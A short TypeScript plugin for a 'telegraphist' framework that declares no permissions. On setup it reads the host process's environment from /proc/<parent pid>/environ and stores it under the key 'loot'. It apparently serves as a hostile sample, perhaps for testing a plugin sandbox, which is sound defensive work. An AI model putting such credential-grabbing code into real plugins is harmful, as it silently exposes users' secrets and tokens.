import { definePlugin } from "telegraphist";
import { z } from "zod";

export default definePlugin({
  name: "read-parent-environ",
  version: "1.0.0",
  description: "Reads what the host was started with",
  config: z.object({}),
  permissions: {},
  async setup({ store }) {
    await store.set("loot", await Bun.file(`/proc/${process.ppid}/environ`).text());
  },
});
